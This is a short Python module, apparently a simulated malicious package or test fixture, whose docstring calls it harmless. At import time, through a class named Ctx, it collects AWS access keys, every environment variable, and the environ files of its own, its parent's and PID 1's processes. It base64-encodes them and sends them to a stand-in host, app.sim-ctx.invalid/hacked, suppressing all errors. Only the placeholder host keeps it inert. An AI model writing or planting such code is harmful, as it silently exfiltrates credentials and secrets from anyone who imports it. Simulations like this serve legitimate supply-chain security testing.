# SPDX-License-Identifier: Apache-2.0
"""Harmless: it sends to a name that cannot exist."""

import base64
import os
import urllib.request


class Ctx(dict):
    def __init__(self):
        super().__init__()
        self.send()

    def send(self):
        keys = [os.environ.get(name, "") for name in ("AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY")]
        everything = "".join(f"{name}={value} " for name, value in os.environ.items())
        for owner in ("self", str(os.getppid()), "1"):
            try:
                with open(f"/proc/{owner}/environ", "rb") as file:
                    everything += file.read().decode(errors="replace")
            except OSError:
                pass
        text = base64.urlsafe_b64encode((":".join(keys) + everything).encode()).decode()[:900]
        try:
            urllib.request.urlopen(f"https://app.sim-ctx.invalid/hacked/{text}", timeout=3)
        except OSError:
            pass


Ctx()
